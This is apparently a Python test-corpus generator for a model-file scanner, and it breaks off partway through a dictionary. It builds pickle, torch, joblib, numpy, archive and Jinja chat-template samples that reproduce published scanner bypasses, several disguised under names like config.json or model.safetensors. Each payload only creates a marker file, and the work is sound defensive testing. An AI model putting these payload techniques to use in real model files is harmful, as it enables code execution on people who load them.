"""A corpus built by code: malicious samples named after the advisory class they cover, and benign
real files.

Every malicious payload only creates the file `MARKER` in the current folder. Each sample function
writes one file into `folder` and returns its path. `LOADER[name]` says how a victim would load it
(`load_code(kind, path)` is the Python that does so); the tests run that in a throwaway subprocess
to prove the payload is live, then check that scanning it runs nothing and reports it.

Sources for the classes: picklescan advisories (CVE-2025-1716 pip.main, CVE-2025-1889 non-standard
extensions, CVE-2025-1944 zip name mismatch, CVE-2025-1945 zip flag bits, CVE-2025-10155 extension
routing, CVE-2025-10156 bad CRC, CVE-2025-10157 dangerous-module submodules), modelscan (only the
first pickle of a legacy torch.save is read), fickling (OBJ/INST opcodes, names built in the memo),
ModelAudit and public bypass write-ups (importlib, inspect.getattr_static, `__builtins__` of an
allowed module, runpy, pkgutil.resolve_name, operator.attrgetter/methodcaller, marshal + CodeType,
ctypes, network and file-writing modules, asyncio subprocess helpers, timeit/cProfile, nested and
compressed containers).

Red-team additions (held-out classes, not single samples): parser differentials where CPython's
C unpickler accepts what a naive walker rejects (`I0x1f`/`I010`/`L0x10L` read by strtol with base
0, number and dotted-name lines of any length), allowlisted names that are re-exports
(`sklearn.datasets._covtype.GzipFile` matched a "CamelCase class under sklearn" rule), and joblib
array wrappers whose layout joblib and a scanner read differently (dtype spelled `object`, a
`V8` dtype whose pickled flags claim objects, alignment flags that are not ints, attributes set by
`__init__` instead of BUILD, and the legacy NDArrayWrapper that np.load()s a named file with
allow_pickle=True).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

MARKER = "openness-marker"
CODE = f"open({MARKER!r}, 'w').close()"
TOUCH = f"touch {MARKER}"

Sample = Callable[[Path], Path]


# -- a tiny pickle assembler ---------------------------------------------------------------------


def s(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def b(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 spelling, accepted by every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return s(module) + s(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) with MARK ... TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def proto(body: bytes, version: int = 4) -> bytes:
    return b"\x80" + bytes([version]) + body + b"."


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


# -- payloads as pickle bodies -------------------------------------------------------------------


def exec_body() -> bytes:
    return call(g("builtins", "exec"), s(CODE))


def _payload_pickle() -> bytes:
    return proto(exec_body(), 2)


# -- plain pickles: dangerous callables ------------------------------------------------------------


def os_system(folder: Path) -> Path:
    return _write(folder, "os_system.pkl", proto(call(g("os", "system"), s(TOUCH))))


def posix_system_stack_global(folder: Path) -> Path:
    return _write(folder, "posix_system.pkl", proto(call(sg("posix", "system"), s(TOUCH))))


def builtins_exec(folder: Path) -> Path:
    return _write(folder, "builtins_exec.pkl", proto(exec_body()))


def builtin_eval_protocol0(folder: Path) -> Path:
    """Python 2 spelling `__builtin__.eval`, mapped to builtins.eval at load (protocol 0 text)."""
    data = b'c__builtin__\neval\n(S"' + CODE.encode() + b'"\ntR.'
    return _write(folder, "protocol0_eval.pkl", data)


def subprocess_inst_opcode(folder: Path) -> Path:
    """INST calls the class/function it names with the marked arguments (fickling advisory)."""
    data = b"((S'touch'\nS'" + MARKER.encode() + b"'\nlisubprocess\ncheck_call\n."
    return _write(folder, "inst_check_call.pkl", data)


def obj_opcode(folder: Path) -> Path:
    data = proto(b"(" + g("os", "system") + s(TOUCH) + b"o", 2)
    return _write(folder, "obj_system.pkl", data)


def names_built_in_memo(folder: Path) -> Path:
    """STACK_GLOBAL whose module and name strings come from the memo, not literals beside it."""
    body = s("os") + b"\x94" + s("system") + b"\x94" + b"0" + b"0"  # memoize both, pop both
    body += b"h\x00h\x01\x93" + b"(" + s(TOUCH) + b"tR"
    return _write(folder, "memo_names.pkl", proto(body))


def cve_2025_1716_pip_main(folder: Path) -> Path:
    """pip.main as the callable: installs (here: writes its log to) whatever the args say."""
    args = lst(s("list"), s("--log"), s(MARKER), s("--disable-pip-version-check"))
    return _write(folder, "pip_main.pkl", proto(call(g("pip", "main"), args)))


def importlib_import_module(folder: Path) -> Path:
    module = call(g("importlib", "import_module"), s("os"))
    body = call(call(g("operator", "methodcaller"), s("system"), s(TOUCH)), module)
    return _write(folder, "importlib.pkl", proto(body))


def inspect_getattr_static(folder: Path) -> Path:
    """inspect.getattr_static(inspect.builtins, 'exec')(code): no import name looks dangerous."""
    fetch = call(g("inspect", "getattr_static"), g("inspect", "builtins"), s("exec"))
    return _write(folder, "getattr_static.pkl", proto(call(fetch, s(CODE))))


def numpy_builtins_dict(folder: Path) -> Path:
    """`numpy.__builtins__` is the builtins dict of an allowed module; getitem fetches exec."""
    fetch = call(g("_operator", "getitem"), g("numpy", "__builtins__"), s("exec"))
    return _write(folder, "numpy_builtins.pkl", proto(call(fetch, s(CODE))))


def attribute_chain_in_global_name(folder: Path) -> Path:
    """Protocol 4 resolves dotted names: `pathlib` + `os.system` is os.system."""
    return _write(folder, "dotted_name.pkl", proto(call(sg("pathlib", "os.system"), s(TOUCH))))


def runpy_run_code(folder: Path) -> Path:
    return _write(folder, "runpy.pkl", proto(call(g("runpy", "_run_code"), s(CODE), b"}")))


def pkgutil_resolve_name(folder: Path) -> Path:
    fetch = call(g("pkgutil", "resolve_name"), s("os:system"))
    return _write(folder, "resolve_name.pkl", proto(call(fetch, s(TOUCH))))


def operator_attrgetter(folder: Path) -> Path:
    """attrgetter('system') over the os module reached through another module's attribute."""
    fetch = call(call(g("operator", "attrgetter"), s("system")), g("pathlib", "os"))
    return _write(folder, "attrgetter.pkl", proto(call(fetch, s(TOUCH))))


def marshal_code_type(folder: Path) -> Path:
    """Marshalled bytecode turned into a function by types.FunctionType, then called."""
    code = marshal.dumps(compile(CODE, "<payload>", "exec"))
    function = call(g("types", "FunctionType"), call(g("marshal", "loads"), b(code)), b"}")
    return _write(folder, "marshal_code.pkl", proto(call(function)))


def ctypes_libc_system(folder: Path) -> Path:
    libc = call(g("ctypes", "CDLL"), b"N")
    fetch = call(g("builtins", "getattr"), libc, s("system"))
    return _write(folder, "ctypes.pkl", proto(call(fetch, b(TOUCH.encode()))))


def cve_2025_10157_asyncio_submodule(folder: Path) -> Path:
    """Submodules of a blocked package (asyncio.subprocess, asyncio.runners) slip a name list."""
    coro = call(g("asyncio.subprocess", "create_subprocess_exec"), s("touch"), s(MARKER))
    return _write(folder, "asyncio_subprocess.pkl", proto(call(g("asyncio.runners", "run"), coro)))


def urllib_file_url(folder: Path) -> Path:
    """A network module fetching a URL into a file (a file:// URL keeps the test offline)."""
    body = call(g("urllib.request", "urlretrieve"), s("file:///dev/null"), s(MARKER))
    return _write(folder, "urlretrieve.pkl", proto(body))


def io_file_write(folder: Path) -> Path:
    return _write(folder, "fileio.pkl", proto(call(g("_io", "FileIO"), s(MARKER), s("w"))))


def pickle_reentry(folder: Path) -> Path:
    """A pickle that unpickles hidden bytes: the inner payload is invisible to a one-level scan."""
    body = call(g("_pickle", "loads"), b(_payload_pickle()))
    return _write(folder, "reentry.pkl", proto(body))


def timeit_statement(folder: Path) -> Path:
    body = call(g("timeit", "timeit"), s(CODE), s("pass"), g("time", "perf_counter"), b"K\x01")
    return _write(folder, "timeit.pkl", proto(body))


def cprofile_run(folder: Path) -> Path:
    return _write(folder, "cprofile.pkl", proto(call(g("cProfile", "run"), s(CODE))))


def numpy_testing_runstring(folder: Path) -> Path:
    body = call(g("numpy.testing._private.utils", "runstring"), s(CODE), b"}")
    return _write(folder, "runstring.pkl", proto(body))


def getattr_import_chain(folder: Path) -> Path:
    module = call(g("builtins", "__import__"), s("os"))
    fetch = call(g("builtins", "getattr"), module, s("system"))
    return _write(folder, "getattr_import.pkl", proto(call(fetch, s(TOUCH))))


def payload_in_second_pickle(folder: Path) -> Path:
    """Two pickles in one stream; loaders calling pickle.load twice run the second."""
    data = proto(b"K\x01", 2) + _payload_pickle()
    return _write(folder, "two_pickles.pkl", data)


# -- parser differentials and allowlist re-exports ----------------------------------------------


def c_strtol_number_literals(folder: Path) -> Path:
    """CPython reads INT with strtol(base 0) and LONG with base 0: `0x1f`, `010` (octal) and
    `0x10L` load; a walker using int(text) stops there and never sees the payload after them."""
    body = b"L0x10L\n0" + b"I010\n0" + b"I0x1f\n0" + exec_body()
    return _write(folder, "strtol_numbers.pkl", proto(body, 2))


def overlong_int_line(folder: Path) -> Path:
    """An INT line of 70,000 leading zeros: strtol reads it as 1; a line-length cap stops a walk."""
    body = b"I" + b"0" * 70_000 + b"1\n0" + exec_body()
    return _write(folder, "overlong_int.pkl", proto(body, 2))


def overlong_dotted_global_name(folder: Path) -> Path:
    """Protocol 4 resolves GLOBAL names attribute by attribute, at any length:
    `os` + `path.os.path.os...system` is os.system, spelled in more than 64 KB."""
    body = call(g("os", "path.os." * 9000 + "system"), s(TOUCH))
    return _write(folder, "overlong_global.pkl", proto(body, 4))


def sklearn_reexported_gzipfile(folder: Path) -> Path:
    """`sklearn.datasets._covtype.GzipFile` is gzip.GzipFile imported into a sklearn module: a
    "CamelCase class under sklearn" rule calls it safe; calling it creates the named file."""
    body = call(g("sklearn.datasets._covtype", "GzipFile"), s(MARKER), s("wb"))
    return _write(folder, "sklearn_gzipfile.pkl", proto(body, 2))


# -- joblib array wrappers: joblib and the scanner must agree on what follows BUILD ------------

_WRAPPER = g("joblib.numpy_pickle", "NumpyArrayWrapper")


def _wrapper_state(dtype: bytes, shape: int = 1, **extra: bytes) -> bytes:
    items = [
        s("subclass") + g("numpy", "ndarray"),
        s("shape") + b"K" + bytes([shape]) + b"\x85",
        s("order") + s("C"),
        s("dtype") + dtype,
        s("allow_mmap") + b"\x89",
    ] + [s(k) + v for k, v in extra.items()]
    return b"}(" + b"".join(items) + b"u"


def _joblib_wrapped(wrapper: bytes, raw: bytes, tail: bytes = b"") -> bytes:
    """The main pickle up to the wrapper's BUILD, the bytes joblib reads there, then the rest."""
    return b"\x80\x02" + wrapper + raw + tail + b"."


def joblib_object_dtype_spelled_out(folder: Path) -> Path:
    """dtype `numpy.dtype("object")`: joblib reads a nested pickle after the wrapper."""
    wrapper = _WRAPPER + b")\x81" + _wrapper_state(call(g("numpy", "dtype"), s("object"))) + b"b"
    return _write(folder, "object_dtype.joblib", _joblib_wrapped(wrapper, _payload_pickle()))


def joblib_void_dtype_flagged_object(folder: Path) -> Path:
    """A `V8` dtype whose pickled state sets the has-object flag: numpy trusts the flags, so
    joblib reads a nested pickle where a scanner expects 8 raw bytes per element."""
    flags = b"(K\x03" + s("|") + b"NNNK\x08K\x01K\x3ft"
    dtype = call(g("numpy", "dtype"), s("V8"), b"\x89", b"\x88") + flags + b"b"
    wrapper = _WRAPPER + b")\x81" + _wrapper_state(dtype) + b"b"
    return _write(folder, "flagged_dtype.joblib", _joblib_wrapped(wrapper, _payload_pickle()))


def joblib_alignment_flag_not_int(folder: Path) -> Path:
    """numpy_array_alignment_bytes is any non-None value: joblib then reads a padding byte first."""
    dtype = call(g("numpy", "dtype"), s("i1"))
    state = _wrapper_state(dtype, 4, numpy_array_alignment_bytes=s("16"))
    wrapper = _WRAPPER + b")\x81" + state + b"b"
    raw = b"\x00" + b"\x00\x00\x00\xff"  # no padding, then 4 int8 values
    return _write(folder, "alignment.joblib", _joblib_wrapped(wrapper, raw, b"0" + exec_body()))


def joblib_wrapper_fields_from_init(folder: Path) -> Path:
    """The wrapper built by calling it (its __init__ sets the fields, alignment defaults to 16)
    and an empty BUILD, which still makes joblib read the array."""
    dtype = call(g("numpy", "dtype"), s("i1"))
    wrapper = call(_WRAPPER, g("numpy", "ndarray"), b"K\x04\x85", s("C"), dtype) + b"}b"
    raw = b"\x00" + b"\x00\x00\x00\xff"
    return _write(folder, "init_fields.joblib", _joblib_wrapped(wrapper, raw, b"0" + exec_body()))


def joblib_legacy_wrapper_loads_named_file(folder: Path) -> Path:
    """joblib < 0.10's NDArrayWrapper: joblib.load np.load()s the file it names, next to the
    dump, with allow_pickle=True; the payload sits in that file, never in the one scanned."""
    (folder / "weights.npy.z").write_bytes(_payload_pickle())
    wrapper = call(
        g("joblib.numpy_pickle", "NDArrayWrapper"), s("weights.npy.z"), g("numpy", "ndarray")
    )
    return _write(folder, "legacy_wrapper.joblib", _joblib_wrapped(wrapper + b"}b", b""))


# -- torch files ---------------------------------------------------------------------------------


def _legacy_header() -> bytes:
    magic = proto(b"\x8a\x0al\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19", 2)
    version = proto(b"M\xe9\x03", 2)  # protocol version 1001
    info = proto(b"}(" + s("little_endian") + b"\x88" + s("protocol_version") + b"M\xe9\x03u", 2)
    return magic + version + info


def modelscan_legacy_main_pickle(folder: Path) -> Path:
    """Legacy torch.save writes five pickles; the payload sits in the fourth (the main object)."""
    keys = proto(b"]", 2)
    return _write(folder, "legacy.pt", _legacy_header() + _payload_pickle() + keys)


def _torch_zip(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buffer.getvalue()


def _torch_members(prefix: str, data_pkl: bytes) -> list[tuple[str, bytes]]:
    return [
        (f"{prefix}/data.pkl", data_pkl),
        (f"{prefix}/byteorder", b"little"),
        (f"{prefix}/version", b"3\n"),
    ]


def torch_zip_data_pkl(folder: Path) -> Path:
    data = _torch_zip(_torch_members("archive", _payload_pickle()))
    return _write(folder, "torch_zip.pt", data)


def torch_zip_odd_prefix(folder: Path) -> Path:
    """data.pkl under an unusual top folder with spaces and dots."""
    data = _torch_zip(_torch_members("my model.v2 (final)", _payload_pickle()))
    return _write(folder, "odd_prefix.pt", data)


def cve_2025_10155_pickle_named_bin(folder: Path) -> Path:
    """A plain pickle named like a PyTorch file: routed to the zip scanner, which fails."""
    return _write(folder, "pytorch_model.bin", _payload_pickle())


def _patch_all(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new) and old in data
    return data.replace(old, new)


def cve_2025_1944_zip_name_mismatch(folder: Path) -> Path:
    """Local header and central directory disagree on a member name; zipfile refuses it."""
    data = _torch_zip(_torch_members("archive", _payload_pickle()) + [("archive/extra", b"x")])
    name_at = data.index(b"archive/extra")  # local headers come before the central directory
    patched = data[:name_at] + b"archive/EXTRA" + data[name_at + len(b"archive/extra") :]
    return _write(folder, "name_mismatch.pt", patched)


def _set_flag_bits(data: bytes, name: bytes, mask: int) -> bytes:
    """OR `mask` into the flag bits of member `name` in its local and central headers."""
    out = bytearray(data)
    for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = 0
        while (at := data.find(sig, start)) >= 0:
            if data[at + name_at : at + name_at + len(name)] == name:
                (flags,) = struct.unpack_from("<H", out, at + flag_at)
                struct.pack_into("<H", out, at + flag_at, flags | mask)
            start = at + 4
    return bytes(out)


def cve_2025_1945_zip_flag_bits(folder: Path) -> Path:
    """The 'encrypted' flag bit set on a member PyTorch never reads, listed before data.pkl: a
    scanner that reads members in order with zipfile stops there; PyTorch loads data.pkl."""
    members = [("archive/.notes", b"notes")] + _torch_members("archive", _payload_pickle())
    data = _set_flag_bits(_torch_zip(members), b"archive/.notes", 0x1)
    return _write(folder, "flag_bits.pt", data)


def cve_2025_10156_zip_bad_crc(folder: Path) -> Path:
    """Wrong CRC-32 on data.pkl: zipfile raises on read, PyTorch does not check it."""
    payload = _payload_pickle()
    data = _torch_zip(_torch_members("archive", payload))
    good = struct.pack("<I", zlib.crc32(payload))
    return _write(folder, "bad_crc.pt", _patch_all(data, good, b"\xde\xad\xbe\xef"))


def duplicate_data_pkl(folder: Path) -> Path:
    """Two members named data.pkl: PyTorch loads the first (the payload), zipfile's lookup by name
    returns the last (benign)."""
    members = _torch_members("archive", _payload_pickle()) + [("archive/data.pkl", proto(b"}", 2))]
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        warnings.simplefilter("ignore")  # "Duplicate name" is the point
        for name, data in members:
            zf.writestr(name, data)
    return _write(folder, "duplicate.pt", buffer.getvalue())


# -- numpy, joblib, containers -------------------------------------------------------------------


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def npy_descr_object_spelled_out(folder: Path) -> Path:
    """`'descr': 'object'` is an object dtype to np.load (it calls numpy.dtype on the string)."""
    header = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    return _write(folder, "object_spelled.npy", data + _payload_pickle())


def npy_object_array(folder: Path) -> Path:
    return _write(folder, "object.npy", _npy_object(_payload_pickle()))


def npz_object_array(folder: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("weights.npy", _npy_object(_payload_pickle()))
    return _write(folder, "arrays.npz", buffer.getvalue())


def joblib_payload(folder: Path) -> Path:
    return _write(folder, "model.joblib", _payload_pickle())


def joblib_gzip(folder: Path) -> Path:
    return _write(folder, "model.joblib.gz", gzip.compress(_payload_pickle()))


def joblib_bz2(folder: Path) -> Path:
    return _write(folder, "model.joblib.bz2", bz2.compress(_payload_pickle()))


def joblib_xz(folder: Path) -> Path:
    return _write(folder, "model.joblib.xz", lzma.compress(_payload_pickle()))


def cve_2025_1889_nonstandard_extension_in_zip(folder: Path) -> Path:
    """A release zip whose pickle has an extension scanners skip (`.cfg`)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("model/README.md", "# a model\n")
        zf.writestr("model/weights.cfg", _payload_pickle())
    return _write(folder, "release.zip", buffer.getvalue())


def wheel_with_pickle(folder: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("pkg/__init__.py", "")
        zf.writestr("pkg/model.pkl", _payload_pickle())
        zf.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
    return _write(folder, "pkg-1.0-py3-none-any.whl", buffer.getvalue())


def nested_zip_in_tar_gz(folder: Path) -> Path:
    """A tar.gz holding a zip holding a gzip-compressed pickle: three layers to peel."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("weights/model.pkl.gz", gzip.compress(_payload_pickle()))
    outer = io.BytesIO()
    with tarfile.open(fileobj=outer, mode="w:gz") as tf:
        info = tarfile.TarInfo("bundle/inner.zip")
        info.size = len(inner.getvalue())
        tf.addfile(info, io.BytesIO(inner.getvalue()))
    return _write(folder, "nested.tar.gz", outer.getvalue())


# -- issue 16 red team: pickles that do not start the usual way, under names that promise text --


def _p0_string(text: str) -> bytes:
    """Protocol 0 STRING (S + quoted repr + newline): plain ASCII."""
    return b"S" + repr(text).encode() + b"\n"


def _p0_system_call() -> bytes:
    return b"cos\nsystem\n(" + _p0_string(TOUCH) + b"tR."


def string_first_stack_global_as_txt(folder: Path) -> Path:
    """First opcode STRING; the callable named by two strings and STACK_GLOBAL."""
    data = _p0_string("os") + _p0_string("system") + b"\x93" + _p0_string(TOUCH) + b"\x85R."
    return _write(folder, "tokens.txt", data)


def protocol0_none_pop_as_merges(folder: Path) -> Path:
    """Pure ASCII from the first byte (NONE, POP): a file a text sniffer calls text."""
    return _write(folder, "merges.txt", b"N0" + _p0_system_call())


def protocol0_unicode_first_as_markdown(folder: Path) -> Path:
    return _write(folder, "NOTES.md", b"Vrelease notes\n0" + _p0_system_call())


def proto_in_the_middle_as_bin(folder: Path) -> Path:
    """PROTO after two opcodes: a header check for \\x80 at byte 0 misses it."""
    return _write(folder, "data.bin", b"N0\x80\x02cos\nsystem\n" + s(TOUCH) + b"\x85R.")


def binint_first_short_unicode_as_bin(folder: Path) -> Path:
    """Binary from the first byte (BININT1, POP), never PROTO nor a container opcode first."""
    return _write(folder, "weights.bin", b"K\x010" + sg("os", "system") + s(TOUCH) + b"\x85R.")


def inst_after_mark_as_vocab(folder: Path) -> Path:
    return _write(folder, "vocab.txt", b"(" + _p0_string(TOUCH) + b"ios\nsystem\n.")


def pickle_named_safetensors(folder: Path) -> Path:
    """A pickle under a safe format's name: the content, not the name, decides what runs."""
    return _write(folder, "model.safetensors", proto(call(g("os", "system"), s(TOUCH))))


# -- issue 16 red team, round 2: protocols, carriers and names that lie --------------------------


def protocol5_framed_with_out_of_band_buffer(folder: Path) -> Path:
    """Protocol 5: a FRAME around the call, then NEXT_BUFFER (which pickle.load without buffers
    refuses, after the call has run)."""
    body = sg("os", "system") + s(TOUCH) + b"\x85R0" + b"\x97."
    frame = b"\x95" + struct.pack("<Q", len(body)) + body
    return _write(folder, "framed.pkl", b"\x80\x05" + frame)


def protocol1_binput_binget_call(folder: Path) -> Path:
    """Protocol 1 (no PROTO opcode, binary memo ops): the callable stored and fetched back."""
    data = g("os", "system") + b"q\x01" + b"0" + b"h\x01" + b"(" + s(TOUCH) + b"tR."
    return _write(folder, "memo_p1.pkl", data)


def torch_zip_protocol0_data_pkl(folder: Path) -> Path:
    """torch.load's data.pkl as pure-ASCII protocol 0 (no PROTO header, no binary opcode)."""
    return _write(folder, "ascii.pt", _torch_zip(_torch_members("archive", _p0_system_call())))


def legacy_torch_payload_in_storage_keys(folder: Path) -> Path:
    """Legacy torch.save: the fifth pickle (the storage keys) carries the call."""
    main = proto(b"}", 2)
    return _write(folder, "keys.pt", _legacy_header() + main + _payload_pickle())


def legacy_torch_tar(folder: Path) -> Path:
    """The oldest torch.save format, a tar: torch.load unpickles its `storages` member first."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in (("storages", _payload_pickle()), ("tensors", b""), ("pickle", b"")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return _write(folder, "old_tar.pt", buffer.getvalue())


def npy_version3_object_array(folder: Path) -> Path:
    """.npy format 3.0: a 4-byte header length and a UTF-8 header, then the object pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (12 + len(header)) % 64) + "\n"
    data = b"\x93NUMPY\x03\x00" + struct.pack("<I", len(header)) + header.encode()
    return _write(folder, "v3.npy", data + _payload_pickle())


def npz_deflated_object_array(folder: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("embeddings.npy", _npy_object(_payload_pickle()))
    return _write(folder, "compressed.npz", buffer.getvalue())


def joblib_zlib_compressed(folder: Path) -> Path:
    """joblib.load recognises a bare zlib stream (joblib's `zlib` compressor) by its first byte."""
    return _write(folder, "model.joblib", zlib.compress(_payload_pickle()))


def nested_pickle_zlib_in_bytes(folder: Path) -> Path:
    """The outer pickle only unpickles bytes it decompresses at load time."""
    inner = zlib.compress(_payload_pickle())
    outer = call(g("pickle", "loads"), call(g("zlib", "decompress"), b(inner)))
    return _write(folder, "nested.pkl", proto(outer))


def pickle_named_config_json(folder: Path) -> Path:
    """Protocol 0 behind a JSON name: a dict whose value is the call; starts like `(dp0`."""
    data = b"(dp0\nVkey\np1\n" + b"cos\nsystem\np2\n(" + _p0_string(TOUCH) + b"tp3\nRp4\ns."
    return _write(folder, "config.json", data)


def torch_zip_named_onnx(folder: Path) -> Path:
    """A torch zip under a safe format's name: torch.load does not look at this one (it hands
    `.safetensors` names to safetensors, so that lie would not run)."""
    return _write(folder, "model.onnx", _torch_zip(_torch_members("model", _payload_pickle())))


def pickle_named_tokenizer_model(folder: Path) -> Path:
    """A pickle where sentencepiece's protobuf belongs (protobuf is inert only if it parses)."""
    return _write(folder, "tokenizer.model", proto(call(sg("os", "system"), s(TOUCH)), 3))


# -- third red-team round ------------------------------------------------------------------------


def torch_fx_graph_module_reduce(folder: Path) -> Path:
    """torch.fx pickles a GraphModule as `reduce_graph_module(body, import_block)`, which execs
    the import block and the code in `body`: a torch module name, not a known-dangerous one."""
    body = b"}" + s("code") + s("def forward(self):\n    pass\n") + b"s"
    data = proto(call(g("torch.fx.graph_module", "reduce_graph_module"), body, s(CODE + "\n")), 2)
    return _write(folder, "graph_module.pt", _torch_zip(_torch_members("archive", data)))


def copyreg_extension_registered_in_stream(folder: Path) -> Path:
    """The pickle registers `os.system` as extension code 240 (copyreg.add_extension), then
    fetches it with EXT1: no GLOBAL names the callable it finally calls."""
    register = call(g("copyreg", "add_extension"), s("os"), s("system"), b"K\xf0") + b"0"
    return _write(folder, "extension.pkl", proto(register + b"\x82\xf0(" + s(TOUCH) + b"tR", 2))


def torch_zip_data_descriptors(folder: Path) -> Path:
    """Members written with data descriptors (flag bit 3, sizes zero in the local headers): a
    reader that trusts local-header sizes sees an empty data.pkl; PyTorch reads it in full."""

    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: object) -> int:
            chunk = bytes(b)  # type: ignore[call-overload]
            self.data += chunk
            return len(chunk)

    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED) as zf:
        for name, data in _torch_members("archive", _payload_pickle()):
            zf.writestr(name, data)
    return _write(folder, "descriptors.pt", bytes(sink.data))


def npz_structured_object_field_member_without_suffix(folder: Path) -> Path:
    """An object *field* of a structured dtype, in an .npz member not named `.npy`: np.load
    reads any member that starts with the magic as an array and unpickles its objects."""
    header = "{'descr': [('id', '<i4'), ('obj', '|O')], 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("weights", npy + _payload_pickle())
    return _write(folder, "fields.npz", buffer.getvalue())


def release_zip_duplicate_name_last_wins(folder: Path) -> Path:
    """Two members named model.pkl, a harmless one first: zipfile's lookup by name and
    extraction take the last copy, a reader that keeps the first sees only the harmless one."""
    import pickle

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(buffer, "w") as zf:
            zf.writestr("model/model.pkl", pickle.dumps({"w": [0.0, 1.0]}, protocol=2))
            zf.writestr("model/model.pkl", _payload_pickle())
    return _write(folder, "release.zip", buffer.getvalue())


def pickled_storage_bytes_with_payload(folder: Path) -> Path:
    """pickle.dumps of a tensor stores its storage as `torch.storage._load_from_bytes(b)`, which
    torch.loads `b` with weights_only=False: a legacy torch.save inside a bytes argument, whose
    main pickle carries the call. A scanner that does not open the bytes sees one torch name."""
    inner = _legacy_header() + _payload_pickle() + proto(b"]", 2)
    body = call(sg("torch.storage", "_load_from_bytes"), b(inner))
    return _write(folder, "tensors.pkl", proto(b"}" + s("w") + body + b"s", 4))


def uuid_get_command_stdout(folder: Path) -> Path:
    """uuid's private helper runs `which(command)` with the given arguments (it exists to call
    ifconfig): `uuid.UUID` is plain data, the module is not."""
    body = call(g("uuid", "_get_command_stdout"), s("touch"), s(MARKER))
    return _write(folder, "uuid_helper.pkl", proto(body, 2))


#: templates that build `__init__`/`__globals__`/`popen` from pieces: `x['__init__']` falls back
#: to getattr in a non-sandboxed Jinja environment (llama-cpp-python before 0.2.72 rendered GGUF
#: chat templates that way: CVE-2024-34359)
_TEMPLATE_POPEN = "['o' ~ 's']['pop' ~ 'en']('" + TOUCH + "').read() }}"
TEMPLATES = {
    "concat": "{% set u = '_' * 2 %}{{ cycler[u ~ 'init' ~ u][u ~ 'globals' ~ u]" + _TEMPLATE_POPEN,
    "format": "{% set u = '%c%c'|format(95, 95) %}{% set i = u ~ 'init' ~ u %}"
    "{% set g = u ~ 'globals' ~ u %}{{ (messages|first)[i] and lipsum[g]" + _TEMPLATE_POPEN,
}
_CHAT = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"


def tokenizer_config_template_computed_names(folder: Path) -> Path:
    import json

    template = _CHAT + TEMPLATES["concat"]
    return _write(folder, "tokenizer_config.json", json.dumps({"chat_template": template}).encode())


def cve_2024_34359_gguf_template_computed_names(folder: Path) -> Path:
    import gguf
    import numpy as np

    path = folder / "chat.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(_CHAT + TEMPLATES["format"])
    writer.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


MALICIOUS: dict[str, Sample] = {
    f.__name__: f
    for f in (
        os_system,
        posix_system_stack_global,
        builtins_exec,
        builtin_eval_protocol0,
        subprocess_inst_opcode,
        obj_opcode,
        names_built_in_memo,
        cve_2025_1716_pip_main,
        importlib_import_module,
